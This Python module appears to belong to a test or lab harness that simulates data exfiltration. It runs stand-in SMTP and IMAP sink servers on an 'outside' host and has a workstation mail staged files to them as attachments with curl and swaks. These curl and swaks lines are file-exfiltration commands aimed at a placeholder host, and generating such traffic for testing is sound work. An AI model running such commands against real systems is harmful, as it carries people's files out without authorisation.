"""Files that leave by mail."""

import sys

from doors import OUTSIDE, door


MAIL_SINK = r"""
import socketserver, sys
class Mail(socketserver.StreamRequestHandler):
    def handle(self):
        self.wfile.write(b"220 sink ESMTP\r\n")
        for line in self.rfile:
            verb = line[:4].upper()
            if verb == b"EHLO":
                self.wfile.write(b"250-sink\r\n250-PIPELINING\r\n250-8BITMIME\r\n250 SIZE 0\r\n")
            elif verb == b"DATA":
                self.wfile.write(b"354 go\r\n")
                while (text := self.rfile.readline()) not in (b".\r\n", b""):
                    pass
                self.wfile.write(b"250 taken\r\n")
            elif verb == b"QUIT":
                self.wfile.write(b"221 bye\r\n")
                return
            else:
                self.wfile.write(b"250 ok\r\n")
class Server(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
Server((sys.argv[1], 25), Mail).serve_forever()
"""


@door("smtp", "swaks", "curl")
def smtp(stage):
    stage.serve("outside", 25, sys.executable, "-c", MAIL_SINK, OUTSIDE)
    files = stage.files("smtp")
    for i, path in enumerate(files):
        if i % 2:
            stage.tell("workstation", "curl", "-sSf", f"smtp://{OUTSIDE}", "--mail-from", "a@example.com", "--mail-rcpt",
                       "b@example.org", "-H", "Subject: file", "-F", "=see attached;type=text/plain",
                       "-F", f"=@{path};encoder=base64")
        else:
            stage.tell("workstation", "swaks", "--silent", "3", "--server", OUTSIDE, "--from", "a@example.com", "--to",
                       "b@example.org", *(["--pipeline"] if i % 4 else []), "--attach", f"@{path}")
    return files


IMAP_SINK = r"""
import re, socketserver, sys
class Imap(socketserver.StreamRequestHandler):
    def handle(self):
        self.wfile.write(b"* OK ready\r\n")
        for line in self.rfile:
            tag, verb = (line.split() + [b"", b""])[:2]
            literal = re.search(rb"\{(\d+)(\+?)\}\r\n$", line)
            if literal:
                if not literal[2]:
                    self.wfile.write(b"+ go\r\n")
                self.rfile.read(int(literal[1]))
                self.rfile.readline()
            if verb.upper() == b"CAPABILITY":
                self.wfile.write(b"* CAPABILITY IMAP4rev1\r\n")
            self.wfile.write(tag + b" OK done\r\n")
            if verb.upper() == b"LOGOUT":
                return
class Server(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
Server((sys.argv[1], 143), Imap).serve_forever()
"""


@door("imap", "curl")
def imap(stage):
    stage.serve("outside", 143, sys.executable, "-c", IMAP_SINK, OUTSIDE)
    files = stage.files("imap", 30)
    for path in files:
        stage.tell("workstation", "curl", "-sSf", "-u", "a:b", f"imap://{OUTSIDE}/Drafts", "-H", "Subject: draft",
                   "-F", "=see attached;type=text/plain", "-F", f"=@{path};encoder=base64")
    return files
